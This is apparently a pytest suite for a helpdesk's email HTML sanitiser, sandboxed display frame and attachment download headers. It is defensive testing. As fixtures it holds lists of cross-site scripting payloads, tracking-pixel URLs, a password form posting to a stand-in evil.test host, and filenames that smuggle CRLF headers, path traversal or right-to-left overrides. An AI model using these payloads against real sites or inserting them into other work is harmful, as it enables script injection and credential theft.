"""Hostile HTML never survives: not the cleaner, not the frame, not a picture that is none."""

import re
from io import BytesIO

import pytest

from helpdesk.db import transaction
from helpdesk.models import Attachment
from helpdesk.web import images, mail_html
from tests.web.conftest import PNG, Desk, Visitor, letter

pytestmark = pytest.mark.trust
SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;ava&#115;cript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.test'><input name=password><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href='https://evil.test/'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<video><source onerror=alert(1)></video>",
    "<details ontoggle=alert(1) open>x</details>",
)
FETCHING = (
    "<img src='https://track.test/x.gif'>",
    "<img src='//track.test/x.gif'>",
    "<img srcset='https://track.test/x.gif 2x'>",
    "<table background='https://track.test/x.gif'><tr><td background=//track.test/y>x</table>",
    "<p style='background:url(https://track.test/x.gif)'>x</p>",
    "<style>@import 'https://track.test/x.css'; p{background:url(https://track.test/x)}</style><p>x</p>",
    "<link rel=stylesheet href='https://track.test/x.css'>",
    "<link rel=dns-prefetch href='//track.test'>",
    "<svg><image href='https://track.test/x.gif'/></svg>",
    "<svg><filter><feImage href='https://track.test/x'/></filter></svg>",
    "<video poster='https://track.test/x.gif' src='https://track.test/x.mp4'></video>",
    "<audio src='https://track.test/x.mp3' autoplay></audio>",
    "<input type=image src='https://track.test/x.gif'>",
    "<iframe src='https://track.test/'></iframe>",
    "<a href='https://shop.test' ping='https://track.test/'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img lowsrc='https://track.test/x' dynsrc='https://track.test/x'>",
    "<img src='cid:unknown'>",
    "<img src='/profile'>",
)
HARMFUL = re.compile(
    r"<(script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|template|video|audio|source)"
    r"|\son\w+\s*=|javascript:|vbscript:|data:|srcset|background|style=|srcdoc|ping=|formaction",
    re.IGNORECASE,
)


def clean(html: str) -> mail_html.Cleaned:
    return mail_html.clean(html, address_of={"picture": "/frames/images/signed"}.get)


@pytest.mark.parametrize("html", SCRIPTS)
def test_nothing_that_acts_survives(html: str) -> None:
    left = clean(f"<p>before</p>{html}<p>after</p>").html
    tags = "".join(re.findall(r"<[^>]*>", left))
    assert not HARMFUL.search(tags), left
    assert "before" in left


@pytest.mark.parametrize("html", FETCHING)
def test_nothing_that_fetches_survives(html: str) -> None:
    left = clean(html).html
    assert "track.test" not in left
    assert "src=" not in left


def test_what_reads_well_stays() -> None:
    left = clean(
        '<h1>Hi</h1><p><b>bold</b> <a href="https://shop.test/?a=1">link</a></p><table><tr><td>1</table>'
    )
    assert "<h1>Hi</h1>" in left.html
    assert "<b>bold</b>" in left.html
    assert "<td>1</td>" in left.html
    assert 'rel="noopener noreferrer"' in left.html
    assert left.blocked == 0


def test_pictures_that_came_along_are_shown_and_the_others_counted() -> None:
    cleaned = clean(
        '<img src="cid:picture" alt="cup"><img src="https://track.test/1"><img src="http://t.test/2">'
    )
    assert 'src="/frames/images/signed"' in cleaned.html
    assert cleaned.blocked == 2


@pytest.mark.parametrize("html", ["x" * 400_001, "<div>" * 6_001])
def test_what_would_stall_the_page_is_not_even_read(html: str) -> None:
    with pytest.raises(mail_html.TooLargeError):
        clean(html)


def test_what_the_mail_quotes_comes_back_by_itself_and_whole() -> None:
    page = "<div><p>please refund</p><div class=q><b>old words</div></div>"
    cleaned = mail_html.clean(page, address_of={}.get, fold=page.index("<div class"))
    assert cleaned.html == "<div><p>please refund</p></div>"
    assert cleaned.quoted == "<div><b>old words</b></div>"


def test_the_frame_is_a_place_of_its_own(desk: Desk, browser: Visitor) -> None:
    html = '<p>Hello</p><script>alert(1)</script><img src="cid:picture"><img src="https://track.test/x.gif">'
    number = desk.receive(letter(html=html, file=("cup.png", "image/png", PNG)))
    page = browser.text(f"/tickets/{number}")
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in page
    entry = desk.entries(number)[0]
    answer = browser.get(f"/entries/{entry.id}/html")
    shown = answer.get_data(as_text=True)
    policy = answer.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox allow-popups")
    assert "script-src" not in policy
    assert "default-src 'none'" in policy
    assert "alert(1)" not in shown
    assert "1 picture on another server was not loaded." in shown
    (source,) = re.findall(r'src="(/frames/images/[^"]+)"', shown)
    picture = desk.app.test_client().get(source)  # a sandboxed frame sends no cookie
    assert (picture.status_code, picture.mimetype) == (200, "image/png")
    assert desk.app.test_client().get(source[:-2] + "xx").status_code == 404


def test_the_frame_folds_what_the_mail_quotes(desk: Desk, browser: Visitor) -> None:
    html = (
        '<p>Please refund.</p><blockquote type="cite">On 1 March 2026 10:00 A wrote:<p>Hello</p></blockquote>'
    )
    number = desk.receive(letter(html=html))
    shown = browser.text(f"/entries/{desk.entries(number)[0].id}/html")
    assert "Please refund." in shown.split("<details>")[0]
    assert "Hello" in shown.split("<details>")[1]


def test_a_mail_too_large_for_the_frame_is_shown_as_text(desk: Desk, browser: Visitor) -> None:
    number = desk.receive(letter("the plain words", html="<div>" * 7_000 + "deep"))
    shown = browser.text(f"/entries/{desk.entries(number)[0].id}/html")
    assert "too large to be shown safely" in shown
    assert "<div><div>" not in shown


HTML = b"<html><script>alert(1)</script></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
FILES = (HTML, SVG, b"%PDF-1.4", b"<?xml version='1.0'?>", b"GIF8", b"RIFF\0\0\0\0AVI ", b"", b"\x89PNG\r\n")
CLAIMS = ("text/html", "image/svg+xml", "image/png", "application/xhtml+xml", "text/javascript")


@pytest.mark.parametrize("claim", CLAIMS)
@pytest.mark.parametrize("content", FILES)
def test_a_file_is_saved_and_never_opened_as_a_page_of_ours(
    desk: Desk, browser: Visitor, content: bytes, claim: str
) -> None:
    number = desk.receive(letter(file=("evil.html", claim, content)))
    entry = desk.entries(number)[0]
    with transaction() as session:
        file_id = session.query(Attachment.id).filter_by(entry_id=entry.id).scalar()
    for path in (f"/attachments/{file_id}", f"/attachments/{file_id}/image"):
        answer = browser.get(path)
        assert answer.status_code == 200
        assert answer.mimetype == "application/octet-stream"
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PNG, "image/png"),
        (b"\xff\xd8\xff\xe0", "image/jpeg"),
        (b"GIF89a", "image/gif"),
        (b"RIFF\0\0\0\0WEBP", "image/webp"),
        (b"xxxxxxxxWEBP", None),
        (SVG, None),
    ],
)
def test_a_picture_is_known_by_its_first_bytes(content: bytes, kind: str | None) -> None:
    assert images.kind(content) == kind


@pytest.mark.parametrize(
    "name", ["a\r\nX-Evil: 1.png", "\u202egnp.exe", "../../etc/passwd", "破损.png", "x" * 300]
)
def test_any_name_fits_the_header(desk: Desk, browser: Visitor, name: str) -> None:
    entry = desk.entries(desk.receive())[0]
    with transaction() as session:
        file = Attachment(
            entry_id=entry.id,
            position=0,
            filename=name,
            content_type="image/png",
            size=1,
            sha256="0" * 64,
        )
        session.add(file)
        session.flush()
        file_id, file.sha256 = file.id, desk.app.extensions["helpdesk.desk"].blobs.put(PNG)
    answer = browser.get(f"/attachments/{file_id}")
    assert answer.status_code == 200
    assert "X-Evil" not in answer.headers


def test_an_uploaded_name_is_made_safe(desk: Desk, browser: Visitor) -> None:
    number = desk.receive()
    browser.post(
        f"/tickets/{number}/entries",
        kind="note",
        text="see file",
        files=(BytesIO(b"x"), "..\\..\\evil\u202e.exe"),
    )
    with transaction() as session:
        assert session.query(Attachment.filename).all() == [("evil.exe",)]


def test_the_mail_as_it_came_is_downloaded_byte_for_byte(desk: Desk, browser: Visitor) -> None:
    raw = letter("original")
    number = desk.receive(raw)
    answer = browser.get(f"/entries/{desk.entries(number)[0].id}/raw")
    assert answer.data == raw
    assert 'filename="ticket-1-1.eml"' in answer.headers["Content-Disposition"]


def test_a_missing_blob_is_a_404_and_not_a_crash(desk: Desk, browser: Visitor) -> None:
    raw = letter()
    number = desk.receive(raw)
    blobs = desk.app.extensions["helpdesk.desk"].blobs
    blobs.path(blobs.put(raw)).unlink()
    assert browser.get(f"/entries/{desk.entries(number)[0].id}/raw").status_code == 404
